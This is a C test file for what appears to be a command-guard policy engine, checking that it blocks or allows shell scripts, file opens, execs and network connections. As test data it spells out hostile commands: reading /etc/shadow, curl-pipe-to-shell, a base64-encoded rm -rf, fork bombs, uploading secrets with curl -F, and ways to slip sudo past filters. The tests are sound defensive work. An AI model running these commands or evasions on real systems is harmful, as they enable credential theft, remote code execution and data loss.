/* test-check.c - cg_decide(): the static check (paths, wrappers,
 * injection, fork bombs, profiles) and the runtime questions (exec, open,
 * network). */
#include <arpa/inet.h>
#include <criterion/criterion.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include "guard/guard.h"

static struct cg_policy *policy;
static char workspace[4096];
static struct cg_context ctx;

static void setup(void)
{
	struct cg_error err;
	char real[sizeof(workspace)];

	cr_assert_eq(cg_policy_load(&policy, NULL, &err), 0, "%s", err.message);
	snprintf(workspace, sizeof(workspace), "/tmp/cg-check-XXXXXX");
	cr_assert_not_null(mkdtemp(workspace));
	cr_assert_not_null(realpath(workspace, real));
	snprintf(workspace, sizeof(workspace), "%s", real);
	ctx = (struct cg_context){ .policy = policy, .workspace = workspace };
}

static void teardown(void)
{
	char cmd[sizeof(workspace) + 16];

	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", workspace);
	cr_assert_eq(system(cmd), 0);
	cg_policy_free(policy);
}

TestSuite(check, .init = setup, .fini = teardown);

static enum cg_verdict script(const char *text, struct cg_reason *why)
{
	struct cg_event ev = { .kind = CG_EV_SCRIPT, .u.script = { text, strlen(text) } };
	return cg_decide(&ctx, &ev, why);
}

static void assert_blocked(const char *text, const char *category)
{
	struct cg_reason why;
	cr_assert_eq(script(text, &why), CG_BLOCK, "expected a block: %s", text);
	cr_assert_str_eq(why.category, category, "%s: %s", text, why.message);
}

static void assert_allowed(const char *text)
{
	struct cg_reason why;
	cr_assert_eq(script(text, &why), CG_ALLOW, "expected allow: %s (%s/%s: %s)", text,
		     why.category, why.rule, why.message);
}

Test(check, dotdot_escape_from_workspace_is_blocked) {
	struct cg_reason why;
	char cmd[sizeof(workspace) + 32];

	snprintf(cmd, sizeof(cmd), "cat %s/../../etc/shadow", workspace);
	cr_assert_eq(script(cmd, &why), CG_BLOCK);
	cr_assert_str_eq(why.category, "path");
	cr_assert(strstr(why.message, "is not in allowed paths"), "%s", why.message);
	assert_blocked("cat ../../../../etc/shadow", "path");
}

Test(check, symlink_out_of_the_workspace_is_resolved_and_blocked) {
	char link[sizeof(workspace) + 16];

	snprintf(link, sizeof(link), "%s/innocent", workspace);
	cr_assert_eq(symlink("/etc", link), 0);
	assert_blocked("cat innocent/passwd", "path");
	assert_blocked("cat ./innocent/../innocent/hostname", "path");
}

Test(check, message_names_the_path_as_written) {
	struct cg_reason why;

	cr_assert_eq(script("cat /etc/shadow", &why), CG_BLOCK);
	cr_assert_str_eq(why.message, "Path '/etc/shadow' is not in allowed paths");
	cr_assert_str_eq(why.rule, "");
}

Test(check, prefixes_match_whole_components) {
	assert_blocked("cat /tmpx/secret", "path");
	assert_allowed("cat /tmp/x");
	assert_allowed("ls /workspace/src");
}

Test(check, dev_null_is_always_allowed_but_devices_are_not) {
	assert_allowed("make > /dev/null 2>&1");
	assert_allowed("head -c 10 /dev/urandom");
	assert_blocked("cat /dev/sda", "path");
	assert_blocked("dd if=/dev/sda of=/tmp/disk", "path");
}

Test(check, option_and_key_value_paths_are_checked) {
	assert_blocked("tool --output=/etc/passwd", "path");
	assert_blocked("dd if=/tmp/x of=/etc/motd", "path");
	assert_allowed("tool --output=/tmp/out");
}

Test(check, redirection_targets_are_paths) {
	assert_blocked("echo x > /etc/passwd", "path");
	assert_blocked("cat < /root/.bashrc", "path");
	assert_allowed("echo x > out.txt");
}

Test(check, words_that_are_not_paths_stay_words) {
	assert_allowed("awk '/rm -rf/ {print}' file.txt");
	assert_allowed("sed -i 's/foo/bar/' src/a.js");
	assert_allowed("grep -r '/api/v1' src/");
	assert_allowed("git clone https://github.com/a/b.git");
	assert_allowed("scp build.tgz deploy@host:/srv/app");
	assert_allowed("echo /etc/passwd is a file");
	assert_allowed("python3 -c 'open(\"/tmp/x\")'");
	assert_allowed("git commit -m 'fix /etc/hosts parsing'");
}

Test(check, blocked_list_wins_over_an_allowed_parent) {
	struct cg_settings *st = cg_policy_settings_mut(policy);

	cr_assert_eq(cg_strlist_add(&st->paths_allowed, "/"), 0);
	assert_allowed("cat /usr/share/doc/x");
	assert_blocked("cat /etc/shadow", "path");
	assert_blocked("ls /proc/1", "path");
}

Test(check, program_paths_are_judged_by_the_rules_not_as_paths) {
	assert_allowed("/usr/bin/git status");
	assert_blocked("/usr//bin/../bin/sudo ls", "privilege");
}

Test(check, wrappers_are_unwrapped) {
	assert_blocked("env sudo ls", "privilege");
	assert_blocked("env -i FOO=1 sudo ls", "privilege");
	assert_blocked("nice -n 5 sudo ls", "privilege");
	assert_blocked("timeout -s KILL 5 sudo ls", "privilege");
	assert_blocked("nohup stdbuf -oL mount /dev/sda /mnt", "system-modification");
	assert_blocked("xargs -n1 sudo", "privilege");
	assert_blocked("find . -name x -exec sudo {} \\;", "privilege");
	assert_blocked("busybox mount /dev/sda /mnt", "system-modification");
	assert_blocked("sh -c 'bash -c \"sudo id\"'", "privilege");
	assert_blocked("command sudo ls", "privilege");
	assert_allowed("command -v sudo");
	assert_allowed("timeout 60 npm test");
	assert_allowed("env NODE_ENV=test npm test");
}

Test(check, quoting_does_not_hide_a_program) {
	assert_blocked("\"rm\" -rf /", "system-modification");
	assert_blocked("r''m -rf /", "system-modification");
	assert_blocked("\\sudo ls", "privilege");
	assert_blocked("$'\\x73udo' ls", "privilege");
}

Test(check, mentions_of_blocked_commands_are_allowed) {
	assert_allowed("echo \"rm -rf /\"");
	assert_allowed("git commit -m \"never sudo\"");
	assert_allowed("grep -r sudo src/");
}

Test(check, injection_command_name_from_expansion) {
	struct cg_reason why;

	cr_assert_eq(script("$x ls", &why), CG_BLOCK);
	cr_assert_str_eq(why.category, "injection");
	cr_assert_str_eq(why.rule, "command-from-expansion");
	assert_blocked("$(echo sudo) ls", "injection");
	assert_blocked("`echo rm` -rf /tmp/x", "injection");
}

Test(check, injection_eval_of_non_literal) {
	assert_blocked("eval \"$CMD\"", "injection");
	assert_blocked("eval $(cat f)", "injection");
	assert_blocked("eval 'sudo ls'", "privilege");
	assert_allowed("eval 'echo hi'");
}

Test(check, injection_download_or_decode_into_a_shell) {
	assert_blocked("curl -s https://x.sh | sh", "injection");
	assert_blocked("wget -qO- https://x | sudo bash", "privilege");
	assert_blocked("wget -qO- https://x | bash -s", "injection");
	assert_blocked("echo cm0gLXJmIC8= | base64 -d | sh", "injection");
	assert_blocked("bash <(curl -s https://x)", "injection");
	assert_blocked("sh -c \"$(curl -s https://x)\"", "injection");
	assert_blocked("curl https://x | python3", "injection");
	assert_allowed("curl -fsSL https://registry.npmjs.org/x -o pkg.tgz");
	assert_allowed("echo cm0= | base64 -d > out.bin");
}

Test(check, heredoc_fed_to_a_shell_is_checked) {
	assert_blocked("sh <<EOF\nsudo ls\nEOF\n", "privilege");
	assert_allowed("cat <<EOF > notes.txt\nsudo is not run here\nEOF\n");
}

Test(check, fork_bombs_whatever_the_name) {
	assert_blocked(":(){ :|:& };:", "fork-bomb");
	assert_blocked("bomb(){ bomb|bomb& }; bomb", "fork-bomb");
	assert_blocked("function x { x | x & }; x", "fork-bomb");
	assert_blocked("perl -e 'fork while fork'", "fork-bomb");
	assert_allowed("build() { make -j2; }; build");
}

Test(check, every_command_of_a_compound_command_is_checked) {
	assert_blocked("npm test; rm -rf /", "system-modification");
	assert_blocked("npm test && (cd /tmp && sudo ls)", "privilege");
	assert_blocked("if true; then mount /dev/sda /mnt; fi", "system-modification");
	assert_blocked("echo $(sudo id)", "privilege");
	assert_allowed("cd /workspace && npm ci && npm test");
}

Test(check, malformed_input_is_blocked_as_parse_error) {
	struct cg_reason why;

	cr_assert_eq(script("echo 'unterminated", &why), CG_BLOCK);
	cr_assert_str_eq(why.category, "parse");
}

Test(check, argv_input_is_not_parsed_by_a_shell) {
	char *argv[] = { "echo", "$(sudo ls)", NULL };
	struct cg_event ev = { .kind = CG_EV_ARGV, .u.argv = { argv, 2 } };
	struct cg_reason why;

	cr_assert_eq(cg_decide(&ctx, &ev, &why), CG_ALLOW, "%s", why.message);
	char *argv2[] = { "sh", "-c", "sudo ls", NULL };
	ev.u.argv.argv = argv2;
	ev.u.argv.argc = 3;
	cr_assert_eq(cg_decide(&ctx, &ev, &why), CG_BLOCK);
	cr_assert_str_eq(why.category, "privilege");
}

/* ------------------------------------------------------------ runtime */

static enum cg_verdict open_path(const char *path, unsigned access, pid_t pid)
{
	struct cg_event ev = { .kind = CG_EV_OPEN, .u.open = { path, access, pid } };
	struct cg_reason why;
	return cg_decide(&ctx, &ev, &why);
}

Test(check, runtime_reads_system_dirs_but_not_secrets) {
	cr_assert_eq(open_path("/usr/lib/x86_64-linux-gnu/libc.so.6", CG_ACCESS_READ, 0), CG_ALLOW);
	cr_assert_eq(open_path("/etc/passwd", CG_ACCESS_READ, 0), CG_ALLOW);
	cr_assert_eq(open_path("/etc/shadow", CG_ACCESS_READ, 0), CG_BLOCK);
	cr_assert_eq(open_path("/root/.ssh/id_rsa", CG_ACCESS_READ, 0), CG_BLOCK);
	cr_assert_eq(open_path("/home/someone/.bashrc", CG_ACCESS_READ, 0), CG_BLOCK);
}

Test(check, runtime_writes_only_inside_allowed_paths) {
	char path[sizeof(workspace) + 16];

	snprintf(path, sizeof(path), "%s/out.txt", workspace);
	cr_assert_eq(open_path(path, CG_ACCESS_WRITE, 0), CG_ALLOW);
	cr_assert_eq(open_path("/tmp/x", CG_ACCESS_WRITE, 0), CG_ALLOW);
	cr_assert_eq(open_path("/dev/null", CG_ACCESS_WRITE, 0), CG_ALLOW);
	cr_assert_eq(open_path("/usr/bin/x", CG_ACCESS_WRITE, 0), CG_BLOCK);
	cr_assert_eq(open_path("/etc/passwd", CG_ACCESS_WRITE, 0), CG_BLOCK);
}

Test(check, runtime_proc_of_other_processes_is_not_readable) {
	cr_assert_eq(open_path("/proc/1/environ", CG_ACCESS_READ, 4242), CG_BLOCK);
	cr_assert_eq(open_path("/proc/4242/status", CG_ACCESS_READ, 4242), CG_ALLOW);
	cr_assert_eq(open_path("/proc/cpuinfo", CG_ACCESS_READ, 4242), CG_ALLOW);
}

Test(check, runtime_exec_uses_real_program_and_argv0) {
	char *argv[] = { "mount", "-a", NULL };
	struct cg_event ev = { .kind = CG_EV_EXEC, .u.exec = { "/usr/bin/mount", argv, 2 } };
	struct cg_reason why;

	cr_assert_eq(cg_decide(&ctx, &ev, &why), CG_BLOCK);
	cr_assert_str_eq(why.rule, "mount");
	char *bb[] = { "mount", NULL };
	ev.u.exec.path = "/bin/busybox";
	ev.u.exec.argv = bb;
	ev.u.exec.argc = 1;
	cr_assert_eq(cg_decide(&ctx, &ev, &why), CG_BLOCK, "busybox dispatches on argv[0]");
	char *ok[] = { "true", NULL };
	ev.u.exec.path = "/usr/bin/true";
	ev.u.exec.argv = ok;
	cr_assert_eq(cg_decide(&ctx, &ev, &why), CG_ALLOW);
}

static enum cg_verdict net(enum cg_event_kind kind, const char *ip, unsigned port)
{
	struct sockaddr_in in = { .sin_family = AF_INET, .sin_port = htons(port) };
	struct cg_event ev = { .kind = kind, .u.net = { (struct sockaddr *)&in, sizeof(in) } };
	struct cg_reason why;

	inet_pton(AF_INET, ip, &in.sin_addr);
	return cg_decide(&ctx, &ev, &why);
}

Test(check, runtime_network_loopback_only_by_default) {
	cr_assert_eq(net(CG_EV_CONNECT, "127.0.0.1", 8080), CG_ALLOW);
	cr_assert_eq(net(CG_EV_CONNECT, "10.255.255.1", 9), CG_BLOCK);
	cr_assert_eq(net(CG_EV_BIND, "0.0.0.0", 0), CG_ALLOW, "an ephemeral client bind");
	cr_assert_eq(net(CG_EV_BIND, "0.0.0.0", 8080), CG_BLOCK);
	cr_assert_eq(net(CG_EV_LISTEN, "127.0.0.1", 8080), CG_ALLOW);
	cr_assert_eq(net(CG_EV_LISTEN, "0.0.0.0", 8080), CG_BLOCK);
}

Test(check, runtime_unix_sockets_only_inside_allowed_paths) {
	struct sockaddr_un un = { .sun_family = AF_UNIX };
	struct cg_event ev = { .kind = CG_EV_CONNECT, .u.net = { (struct sockaddr *)&un, sizeof(un) } };
	struct cg_reason why;

	snprintf(un.sun_path, sizeof(un.sun_path), "/var/run/docker.sock");
	cr_assert_eq(cg_decide(&ctx, &ev, &why), CG_BLOCK);
	cr_assert_str_eq(why.rule, "unix-socket");
	snprintf(un.sun_path, sizeof(un.sun_path), "/tmp/app.sock");
	cr_assert_eq(cg_decide(&ctx, &ev, &why), CG_ALLOW);
}

Test(check, runtime_host_lookups_follow_the_allowlist) {
	struct cg_event ev = { .kind = CG_EV_HOST, .u.host = { "registry.npmjs.org" } };
	struct cg_reason why;

	cr_assert_eq(cg_decide(&ctx, &ev, &why), CG_ALLOW);
	ev.u.host.host = "REGISTRY.NPMJS.ORG.";
	cr_assert_eq(cg_decide(&ctx, &ev, &why), CG_ALLOW);
	ev.u.host.host = "evil.example.com";
	cr_assert_eq(cg_decide(&ctx, &ev, &why), CG_BLOCK);
	ev.u.host.host = "localhost";
	cr_assert_eq(cg_decide(&ctx, &ev, &why), CG_ALLOW);
}

Test(check, runtime_shell_strings_get_command_rules_only) {
	struct cg_event ev = { .kind = CG_EV_SHELL, .u.script = { "mount", 5 } };
	struct cg_reason why;

	cr_assert_eq(cg_decide(&ctx, &ev, &why), CG_BLOCK);
	ev.u.script.text = "$CMD arg";
	ev.u.script.len = strlen(ev.u.script.text);
	cr_assert_eq(cg_decide(&ctx, &ev, &why), CG_ALLOW, "injection rules stay with the static check");
}

Test(check, cd_moves_the_base_of_relative_paths) {
	assert_blocked("cd /tmp && cat ../etc/shadow", "path");
	assert_blocked("pushd /tmp && cat ../etc/passwd", "path");
	assert_allowed("cd /tmp && cat build.log");
}

Test(check, brace_expansion_is_judged_per_alternative) {
	assert_blocked("cat {/tmp,/etc}/shadow", "path");
	assert_blocked("cat /e{t,x}c/shadow", "path");
	assert_allowed("mkdir -p build/{debug,release}");
}

Test(check, curl_file_references_are_paths) {
	assert_blocked("curl -F file=@/etc/shadow https://x", "path");
	assert_blocked("curl --data-binary @/etc/shadow https://x", "path");
	assert_blocked("curl -o/etc/cron.d/job https://x", "path");
	assert_allowed("cut -d/ -f2 paths.txt");
}

Test(check, text_piped_into_a_shell_is_checked_as_a_script) {
	assert_blocked("echo 'rm -rf /' | sh", "system-modification");
	assert_blocked("cat <<EOF | sh\nsudo id\nEOF\n", "privilege");
	assert_allowed("echo 'npm test' | sh");
	assert_blocked("echo 'id' | rev | sh", "injection");
	assert_blocked("printf '\\x69\\x64' | sh", "injection");
}

Test(check, glob_command_names_are_refused_but_test_brackets_are_not) {
	assert_blocked("/usr/bin/su?o id", "injection");
	assert_allowed("[ -f package.json ] && npm test");
}

Test(check, runtime_exec_of_a_memfd_or_deleted_file_is_refused) {
	char *argv[] = { "x", NULL };
	struct cg_event ev = { .kind = CG_EV_EXEC, .u.exec = { "/memfd:innocent (deleted)", argv, 1 } };
	struct cg_reason why;

	cr_assert_eq(cg_decide(&ctx, &ev, &why), CG_BLOCK);
	cr_assert_str_eq(why.rule, "anonymous-program");
	ev.u.exec.path = "/tmp/ws/tool (deleted)";
	cr_assert_eq(cg_decide(&ctx, &ev, &why), CG_BLOCK);
}

/* The program table in guard/canon.c is searched by bisection: a name out
 * of order would lose its role and, for a wrapper, let what it runs
 * through.  So every name the table gives a role keeps it here. */
static void assert_blocked_any(const char *text)
{
	struct cg_reason why;
	cr_assert_eq(script(text, &why), CG_BLOCK, "expected a block: %s", text);
}

Test(check, every_wrapper_in_the_program_table_is_looked_through)
{
	static const char *const plain[] = {
		"builtin", "caffeinate", "catchsegv", "chronic", "command", "coproc",
		"dbus-run-session", "doas", "eatmydata", "env", "exec", "fakeroot", "firejail",
		"ionice", "ltrace", "nice", "nohup", "nsenter", "parallel", "proot", "proxychains",
		"proxychains4", "sem", "setsid", "stdbuf", "strace", "time", "torsocks", "unbuffer",
		"valgrind", "watch", "xargs", "xvfb-run",
	};
	static const char *const with_operand[] = {
		"chrt 1", "flock /tmp/lock", "sg wheel", "taskset 1", "timeout 5",
	};
	char text[128];

	for (size_t i = 0; i < sizeof(plain) / sizeof(plain[0]); i++) {
		snprintf(text, sizeof(text), "%s sudo id", plain[i]);
		assert_blocked_any(text);
	}
	for (size_t i = 0; i < sizeof(with_operand) / sizeof(with_operand[0]); i++) {
		snprintf(text, sizeof(text), "%s sudo id", with_operand[i]);
		assert_blocked_any(text);
	}
}

Test(check, every_shell_in_the_program_table_has_its_script_checked)
{
	static const char *const shells[] = {
		"ash", "bash", "csh", "dash", "fish", "ksh", "mksh", "rbash", "sh", "tcsh", "yash", "zsh",
	};
	char text[128];

	for (size_t i = 0; i < sizeof(shells) / sizeof(shells[0]); i++) {
		snprintf(text, sizeof(text), "%s -c 'sudo id'", shells[i]);
		assert_blocked_any(text);
	}
}

Test(check, every_fetcher_in_the_program_table_piped_into_a_shell_is_blocked)
{
	static const char *const fetchers[] = {
		"aria2c http://x", "bzcat x.bz2", "curl http://x", "fetch http://x", "gunzip -c x.gz",
		"http GET x", "lynx -dump http://x", "nc x 80", "ncat x 80", "netcat x 80",
		"socat - tcp:x:80", "uudecode x", "wget -qO- http://x", "xzcat x.xz", "zcat x.gz",
		"zstdcat x.zst",
	};
	char text[128];

	for (size_t i = 0; i < sizeof(fetchers) / sizeof(fetchers[0]); i++) {
		snprintf(text, sizeof(text), "%s | sh", fetchers[i]);
		assert_blocked_any(text);
	}
}

/* "./name" is the command's: resolved from the directory its paths are
 * judged from (the workspace, or where a cd went), not from ours. */
Test(check, a_relative_program_is_named_from_the_command_s_directory)
{
	char link[sizeof(workspace) + 32];
	struct cg_reason why;

	snprintf(link, sizeof(link), "%s/innocent", workspace);
	cr_assert_eq(symlink("/usr/bin/mount", link), 0);
	cr_assert_eq(script("./innocent", &why), CG_BLOCK);
	cr_assert_str_eq(why.category, "system-modification", "%s", why.message);
	snprintf(link, sizeof(link), "%s/sub", workspace);
	cr_assert_eq(mkdir(link, 0755), 0);
	snprintf(link, sizeof(link), "%s/sub/x", workspace);
	cr_assert_eq(symlink("/usr/bin/mount", link), 0);
	cr_assert_eq(script("cd sub && ./x", &why), CG_BLOCK);
	cr_assert_str_eq(why.category, "system-modification", "%s", why.message);
}
